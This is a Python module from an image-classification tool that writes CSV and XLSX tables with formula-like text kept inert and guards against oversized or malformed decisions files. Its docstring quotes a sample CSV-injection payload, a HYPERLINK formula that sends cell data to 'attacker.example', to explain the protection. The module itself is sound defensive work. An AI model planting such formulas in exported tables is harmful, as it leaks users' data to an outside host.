"""Tables a spreadsheet opens as data: no cell of text FlowClass writes can run as a formula.

File and folder names, labels and class names come from whoever made the images or the
model, and a name like ``=HYPERLINK("http://attacker.example/?"&A2,"Open")`` becomes a
live formula when a spreadsheet opens the table. So every table FlowClass writes goes
through here:

- XLSX: every text cell is stored as text (an inline string), never as a formula; the
  text is kept exactly.
- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return gets a leading ``'`` (OWASP's advice for CSV injection), unless it is a plain
  number such as ``-1.5``. A text that already starts with ``'`` followed by one of those
  characters gets one more ``'``, so :func:`restore` gives back exactly what was written.

Numbers (numeric columns) are written as numbers in both.
"""

from __future__ import annotations

import codecs
import csv
import os
import io
import math
import re
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterable

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs as a formula (see the module's rule)."""
    if not text:
        return text
    if text.startswith(TRIGGERS) and not _NUMBER.fullmatch(text):
        return "'" + text
    if text.startswith("'") and text[1:2] and neutralise(text[1:]) != text[1:]:
        return "'" + text
    return text


def restore(text: str) -> str:
    """The text :func:`neutralise` was given (for tables FlowClass reads back)."""
    if text.startswith("'") and neutralise(text[1:]) == text:
        return text[1:]
    return text


def _cells(frame: "pd.DataFrame") -> tuple[list[str], Iterable[tuple[Any, ...]]]:
    return [str(c) for c in frame.columns], frame.itertuples(index=False, name=None)


def csv_text(frame: "pd.DataFrame") -> str:
    """``frame`` as CSV text (no index), its text cells neutralised."""
    return rows_csv_text(*_cells(frame))


def rows_csv_text(header: list[str], rows: Iterable[Iterable[Any]]) -> str:
    """A header and rows as CSV text (``\\n`` line ends), text cells neutralised; numbers
    as Python writes them, missing values (None, NaN) empty."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([neutralise(h) for h in header])
    writer.writerows([_csv_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str):
        return neutralise(value)
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if hasattr(value, "item") and not isinstance(value, (str, bytes)):  # a NumPy scalar
        return _csv_cell(value.item())
    return value


def write_csv(frame: "pd.DataFrame", path: str | Path, *, bom: bool = False) -> None:
    """Write ``frame`` to ``path`` as UTF-8 CSV, text cells neutralised; ``bom`` starts it
    with the byte-order mark by which spreadsheets tell UTF-8 ("CSV UTF-8")."""
    Path(path).write_text(csv_text(frame), encoding="utf-8-sig" if bom else "utf-8", newline="")


def write_xlsx(frame: "pd.DataFrame", path: str | Path) -> None:
    """Write ``frame`` to ``path`` as one XLSX sheet whose text cells are all text."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Sheet1")

    def cell(value: Any) -> Any:
        if hasattr(value, "item") and not isinstance(value, (str, bytes)):
            value = value.item()
        if value is None or (isinstance(value, float) and math.isnan(value)):
            return None
        if isinstance(value, (bool, int, float)):
            return value
        text = WriteOnlyCell(sheet, value=_printable(str(value)))
        text.data_type = "s"  # openpyxl makes "=..." a formula; text stays text
        return text

    header, rows = _cells(frame)
    sheet.append([cell(h) for h in header])
    for row in rows:
        sheet.append([cell(v) for v in row])
    book.save(path)


_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _printable(text: str) -> str:
    """XLSX cannot hold control characters (openpyxl refuses them): shown as U+FFFD."""
    # a printable text has none (each is a control character): one look a character in C,
    # where the pattern's class costs several times that (an export's table has 1,200 paths)
    return text if text.isprintable() else _CONTROL.sub("\ufffd", text)


# A decisions file holds a short row per image (85 MB for 1,000,000 images, read into some
# 550 MB): one much larger is not one, and reading it would exhaust the memory (a shared
# bundle's 20 GB "label file").
MAX_DECISIONS_BYTES = 256 * 2**20


def refuse_huge(path: Path, what: str, field: str) -> None:
    """A NodeError naming ``path`` when it is too large to be a decisions file (before anything
    reads it: its fingerprint hashes it, a run reads it)."""
    from .errors import NodeError

    if path.is_file() and path.stat().st_size > MAX_DECISIONS_BYTES:
        raise NodeError(f"the {what} {path} is {path.stat().st_size / 2**20:,.0f} MB; a {what} holds a short row "
                        f"per image and may be at most {MAX_DECISIONS_BYTES // 2**20} MB (some 3,000,000 images)",
                        field=field)


# A decisions file has a few columns (path, sha256, label, the user's own); its first rows are
# looked at in its first 64 KB before pandas reads it (see _first_rows_problem).
MAX_COLUMNS = 256
HEAD_BYTES = 1 << 16


def _first_rows_problem(path: Path) -> str | None:
    """Why pandas would misread the file or take minutes and GBs over it, from its first two rows:
    a header of more than MAX_COLUMNS columns or naming one twice, or a first row with more
    cells than the header (pandas makes its leading cells an index, shifting the rest, at
    0.36 ms a cell)."""
    with open(path, "rb") as handle:
        head = handle.read(HEAD_BYTES)
    try:
        rows = csv.reader(io.StringIO(head.decode("utf-8", "replace"), newline=""))
        first = [(number, row) for number, row in enumerate(rows, start=1) if row][:2] if head else []
    except csv.Error:
        return None  # pandas says what is wrong
    if first and len(first[0][1]) > MAX_COLUMNS:
        return f"its header row has more than {MAX_COLUMNS} columns"
    header = first[0][1] if first else []
    twice = next((name for i, name in enumerate(header) if name and name in header[:i]), None)
    if twice is not None:  # pandas reads the first and renames the other 'name.1'
        return f"its header row names the column {twice!r} twice; which one counts is unclear"
    if len(first) == 2 and len(first[1][1]) > len(first[0][1]):
        number, row = first[1]
        cut = len(head) == HEAD_BYTES and not head.endswith(b"\n")  # the row may go on
        return (f"row {number} has {'more than ' if cut else ''}{len(row)} cells, "
                f"its header {len(first[0][1])}")
    return None


# A row of a decisions file names one image: its path (at most 4,096 bytes), its sha256, a label
# and perhaps a few columns of the user's own. A row far longer is not one: a stranger's file of
# one 256 MB cell took pandas 1.3 GB to read.
MAX_ROW_CHARS = 64 * 2**10


class _LongRow(Exception):
    """A row went past MAX_ROW_CHARS; ``start`` holds its first MAX_ROW_CHARS characters."""

    def __init__(self, start: str):
        super().__init__(start)
        self.start = start


class _RowLines:
    """The lines of a text file for csv.reader, each read with a bounded ``readline``, that
    raise :class:`_LongRow` once the row being read (:meth:`next_row` starts one) goes past
    MAX_ROW_CHARS: memory stays bounded, whatever the file holds."""

    def __init__(self, handle: Any):
        self.handle = handle
        self.row: list[str] = []
        self.size = 0

    def next_row(self) -> None:
        self.row, self.size = [], 0

    def __iter__(self) -> "_RowLines":
        return self

    def __next__(self) -> str:
        line = self.handle.readline(MAX_ROW_CHARS + 1)
        if not line:
            raise StopIteration
        self.size += len(line)
        self.row.append(line)
        if self.size > MAX_ROW_CHARS:
            raise _LongRow("".join(self.row)[:MAX_ROW_CHARS])
        return line


# Each cell costs pandas some 20 bytes, even an empty one, and takes one byte of the file (its
# comma): a 64 MB file of commas alone took 1.4 GB and 23 s of CPU to read. A decisions file
# of 3,000,000 images in 5 columns has 15,000,000 cells.
MAX_CELLS = 16_000_000


@dataclass(frozen=True)
class _Shape:
    """What one look at a file's bytes tells before pandas reads it."""

    cells: int  # commas and line breaks: at least the cells pandas makes of it
    plain: bool  # no quote and no line longer than MAX_ROW_CHARS bytes: each row a short line


def _shape(path: Path) -> _Shape:
    """The file's :class:`_Shape`, read a MiB at a time in C (reading its rows in Python took
    2 s of 6.5 for a file of 3,000,000 rows). A line longer than MAX_ROW_CHARS holds a whole
    block of half that (the blocks aligned), so a line break in every block proves every line
    short; a block without one leaves the rows to :func:`_long_row_problem` to measure."""
    block = MAX_ROW_CHARS // 2
    cells, plain = 1, True
    with open(path, "rb") as handle:
        while chunk := handle.read(32 * block):
            cells += chunk.count(b",") + chunk.count(b"\n")
            plain = plain and b'"' not in chunk and all(b"\n" in chunk[i:i + block]
                                                       for i in range(0, len(chunk), block))
    return _Shape(cells, plain)


def _size_problem(path: Path) -> str | None:
    """Why the file would take far more memory than a decisions file: too many cells, or a
    row longer than any image's."""
    shape = _shape(path)
    if shape.cells > MAX_CELLS:
        return (f"it has some {shape.cells:,} cells (commas and line breaks); a row names one image, "
                f"and {MAX_CELLS:,} cells are some 3,000,000 images")
    return None if shape.plain else _long_row_problem(path)


def _long_row_problem(path: Path) -> str | None:
    """Which row of the file is longer than MAX_ROW_CHARS, and in which column, read a row
    at a time (pandas would hold the whole row, several times over)."""
    with open(path, encoding="utf-8-sig", errors="replace", newline="") as handle:
        lines, header, rows = _RowLines(handle), [], 0
        try:
            for row in csv.reader(lines):
                rows, header = rows + 1, header if rows else row
                lines.next_row()
        except csv.Error:
            return None  # pandas says what is wrong
        except _LongRow as long:
            cells = next(csv.reader(io.StringIO(long.start, newline="")), [""])
            named = f", {header[len(cells) - 1]!r}" if rows and len(cells) <= len(header) else ""
            return (f"row {rows + 1} (column {len(cells)}{named}) is longer than "
                    f"{MAX_ROW_CHARS // 2**10} KiB; a row names one image")
    return None


def read_text_table(path: Path, columns: Iterable[str], what: str, field: str, hint: str) -> "pd.DataFrame":
    """A user's CSV of decisions (labels, kept copies) with every cell as text; a file that
    does not exist has no rows (the canvas creates it with the first decision). A file that
    is not a CSV, or too large to be one, is a NodeError naming it and ``field``."""
    import pandas as pd

    from .errors import NodeError

    refuse_huge(path, what, field)
    if not path.is_file():
        if os.path.lexists(path):  # a folder, a pipe, a dangling link: not a file to write over either
            raise NodeError(f"the {what} {path} is not a file", field=field,
                            hint="move or rename it, or name another file")
        return pd.DataFrame({c: pd.Series(dtype=str) for c in columns})
    try:
        problem = _first_rows_problem(path) or _size_problem(path)
        if problem:
            raise NodeError(f"cannot read the {what} {path}: {problem}", field=field, hint=hint)
        return pd.read_csv(path, dtype=str, keep_default_na=False)
    except UnicodeDecodeError as exc:  # a spreadsheet's "CSV" in its own encoding, UTF-16 text
        raise NodeError(f"cannot read the {what} {path}: it is not UTF-8 text (byte {exc.start + 1})",
                        field=field, hint="save it as CSV UTF-8") from None
    except (pd.errors.ParserError, pd.errors.EmptyDataError) as exc:
        raise NodeError(f"cannot read the {what} {path}: {exc}", field=field, hint=hint) from None


def _guarded(text: str) -> bool:
    return len(text) >= 2 and text[0] == text[-1] == "'"


def guard(text: str) -> str:
    """``text`` as a decisions file stores it: a text with white space at either end (a
    folder named `` cats``) between two ``'``, which a reader's trimming cannot reach; a text
    that is already between two ``'`` gets two more, so :func:`unguard` is exact."""
    return f"'{text}'" if text != text.strip() or _guarded(text) else text


def unguard(text: str) -> str:
    """The text :func:`guard` was given."""
    return text[1:-1] if _guarded(text) else text


def as_stored(table: "pd.DataFrame") -> "pd.DataFrame":
    """``table``'s text cells guarded (:func:`guard`), for :func:`write_csv` into a decisions
    file (a column a new row lacks is empty, not text)."""
    return table.map(lambda cell: guard(cell) if isinstance(cell, str) else cell)


def write_decisions(table: "pd.DataFrame", path: Path) -> None:
    """Replace the decisions file ``path`` with ``table`` (atomically, cells guarded), keeping
    the byte-order mark it began with: a file a spreadsheet saved as "CSV UTF-8" then still
    opens there with its accents right."""
    from .fsutil import atomic_path

    try:
        with open(path, "rb") as handle:
            bom = handle.read(3) == codecs.BOM_UTF8
    except FileNotFoundError:
        bom = False
    with atomic_path(path) as tmp:
        write_csv(as_stored(table), tmp, bom=bom)  # a label or path like '=HYPERLINK(...)' stays text


def as_written(table: "pd.DataFrame", columns: Iterable[str]) -> "pd.DataFrame":
    """``table`` with ``columns`` present (empty where missing) and each cell as it was given
    before :func:`as_stored` and :func:`write_csv` stored it; other cells (a hand-written
    ``a.png, cat``) trimmed."""
    for column in columns:
        if column not in table.columns:
            table[column] = ""
    return table.map(lambda cell: unguard(restore(cell.strip())))
